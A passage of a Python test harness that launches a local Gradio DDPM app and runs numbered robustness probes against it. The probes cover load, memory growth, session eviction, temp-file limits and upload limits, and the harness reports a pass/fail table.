        results = list(pool.map(lambda k: _safe(visitor, k), range(sessions)))
    return sum(r is None for r in results), sum(r is False for r in results)


ERRORS = []              # what the load rounds' failed calls said


def _safe(fn, *args):
    try:
        return fn(*args)
    except Exception as err:                                     # noqa: BLE001 - counted as an error
        ERRORS.append(f"{type(err).__name__}: {str(err)[:120]}")
        return None


def probe_load(server, names, rounds, sessions, slider_calls):
    """Item 7: RSS rose across identical load rounds; p50/p95 of the forward slider under load."""
    ERRORS.clear()
    rss = [server.rss_mb()]
    latencies, errors = [], 0
    for index in range(rounds):
        box = {}
        probe = threading.Thread(target=lambda box=box: box.update(t=forward_latency(server, "watcher", slider_calls)))
        probe.start()
        e, _ = round_of_load(server, names, sessions, index)
        probe.join()
        errors += e
        latencies += box.get("t", [])
        rss.append(server.rss_mb())
    p50, p95 = np.percentile(latencies or [np.nan], 50), np.percentile(latencies or [np.nan], 95)
    row(7, f"{rounds} rounds x {sessions} new sessions (forward, reverse, grid, fine-tune; at most "
        f"{HELD_MODELS} models held)", f"{errors} errors; RSS MB "
        + " -> ".join(f"{v:.0f}" for v in rss), "0 errors" + ("; rounds 3+ flat (< +60 MB a round)" if rounds >= 3 else ""),
        errors == 0 and (len(rss) < 4 or max(np.diff(rss[2:])) < 60))
    if ERRORS:
        print(f"  the load rounds' errors: {ERRORS}", flush=True)
    row(7, f"forward slider of one more visitor during the rounds ({len(latencies)} calls)",
        f"p50 {p50:.2f} s, p95 {p95:.2f} s", "p95 < 5 s", p95 < 5)
    return rss, p50, p95


def main(argv=None):
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))          # a terminated run stops its server too (finally)
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--quick", action="store_true", help="tiny models, fewer calls: a few minutes")
    p.add_argument("--rounds", type=int, default=None, help="load rounds (default 1 quick, 6 full)")
    p.add_argument("--sessions", type=int, default=None, help="concurrent sessions per load round (4 quick, 8 full)")
    p.add_argument("--json", default=None, help="also write the table as JSON here")
    p.add_argument("--only", default=None, help="run only the probes of these items, e.g. 7 or 1,2")
    p.add_argument("--app", default=ROOT, help="the checkout whose app.py to start (an older one, to compare)")
    args = p.parse_args(argv)
    quick = args.quick
    rounds = args.rounds or (1 if quick else 6)
    tmp = tempfile.mkdtemp(prefix="abuse_")
    cache, bound, cap = os.path.join(tmp, "gradio_cache"), (0.5 if quick else 10), (5 if quick else 60)
    models = make_models_dir(os.path.join(tmp, "models")) if quick else None
    global MIN_AGE_S
    MIN_AGE_S = 5 if quick else 30       # under load a page fetches its images seconds after they are written
    global HELD_MODELS
    HELD_MODELS, sessions, upload_mb = (4, 24, 8) if quick else (16, 256, 100)
    env = {"GRADIO_TEMP_DIR": cache, "DDPM_APP_MIN_FILE_AGE_S": str(MIN_AGE_S), "DDPM_APP_MAX_TMP_MB": str(bound),
           "DDPM_APP_SWEEP_S": os.environ.get("ABUSE_SWEEP_S", "3"), "DDPM_APP_ADDRESS_JOBS": str(ADDRESS_JOBS),
           "DDPM_APP_MAX_HELD_MODELS": str(HELD_MODELS), "DDPM_APP_MAX_SESSIONS": str(sessions),
           "DDPM_APP_MAX_TRAIN_SECONDS": str(cap)}
    if os.path.isfile(os.path.join(args.app, "ddpm", "app", "gate.py")):      # an older checkout refuses the names
        env.update(DDPM_APP_ADDRESS_UPLOAD_MB=str(upload_mb), DDPM_APP_ADDRESS_SESSIONS=str(sessions // 3))
    log = os.path.join(tmp, "app.log")
    proc, url = start_app(models, log, env=env, root=args.app)
    print(f"server {url} (pid {proc.pid}), models {'tiny' if quick else 'bundled'}, log {tmp}/app.log\n"
          f"  item | probe | measured | limit | result", flush=True)
    start = time.perf_counter()
    try:
        server = Server(url, proc, cache, log)
        names = [c[0] if isinstance(c, (list, tuple)) else c for c in classes(server)][:10]
        probes = [(1, probe_queue_flood, (server, quick)), (1, probe_many_ids, (server, names, quick)),
                  (1, probe_killed_client, (server, names)),
                  (2, probe_eviction, (server, sessions + 6)), (3, probe_paths, (server, tmp)),
                  (4, probe_bomb, (server, tmp)),
                  (5, probe_temp, (server, bound, 30 if quick else 300)), (6, probe_caps, (server, cap)),
                  (8, probe_errors, (server, tmp)), (9, probe_mixing, (server, names)),
                  (10, probe_rest_routes, (server, names, quick)), (11, probe_blobs, (server,)),
                  (12, probe_layers, (server,)), (13, probe_markup, (server,)),
                  (14, probe_cheap_eviction, (server, names, sessions)), (15, probe_uploads, (server, quick, upload_mb)),
                  (16, probe_smaller, (server, names, quick)),
                  (7, probe_load, (server, names, rounds, args.sessions or (4 if quick else 8), 8 if quick else 40))]
        only = {int(v) for v in args.only.split(",")} if args.only else None
        for item, probe, probe_args in probes:
            if only and item not in only:
                continue
            began = time.perf_counter()
            try:
                probe(*probe_args)
            except Exception as err:                             # noqa: BLE001 - an older server may lack an endpoint
                row(item, probe.__name__, f"the probe failed: {type(err).__name__}: {str(err)[:80]}", "", False)
            print(f"        ({probe.__name__}: {time.perf_counter() - began:.0f} s)", flush=True)
    finally:
        stop_app(proc)
    print(f"\n{sum(r[4] == 'pass' for r in ROWS)} / {len(ROWS)} probes pass ({time.perf_counter() - start:.0f} s)")
    if args.json:
        with open(args.json, "w") as f:
            json.dump([dict(zip(("item", "probe", "measured", "limit", "result"), r, strict=True)) for r in ROWS], f,
                      indent=1)
    return 0 if all(r[4] == "pass" for r in ROWS) else 1


if __name__ == "__main__":
    sys.exit(main())
